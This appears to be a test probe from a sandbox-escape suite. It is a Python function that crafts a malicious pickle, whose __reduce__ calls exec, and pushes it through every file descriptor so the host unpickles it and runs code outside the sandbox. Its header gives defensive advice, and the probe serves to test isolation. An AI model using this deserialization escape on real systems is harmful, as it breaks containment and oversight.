# title: Have the server unpickle an object
# tries: Sends a pickle that writes to a planted file to every descriptor, in the usual framings and as text, and leaves it as the result. A server that unpickles what a sandbox sends runs its code outside.
# impact: Escape
# reference: CVE-2025-14931
# proof: change
# host: impossible, nobody there reads what the code writes
# advice: Take results out of a sandbox as JSON, never as pickles or other forms that can hold code.


def attempt(host):
    import base64
    import os
    import pickle

    class Order:
        def __reduce__(self):
            return exec, (f"open({host['change_file']!r}, 'w').write({host['mark']!r})",)

    order = pickle.dumps(Order(), protocol=4)
    print(base64.b64encode(order).decode())
    print(order, flush=True)
    # Names under which servers look for a result.
    globals().update(result=Order(), final_answer=order, output=order, _=Order())
    for frame in (len(order).to_bytes(4, "big") + order, order, len(order).to_bytes(8, "little") + order):
        for descriptor in range(1, 256):
            try:
                os.set_blocking(descriptor, False)
                os.write(descriptor, frame)
                os.set_blocking(descriptor, True)
            except OSError:
                pass
    return "sent"
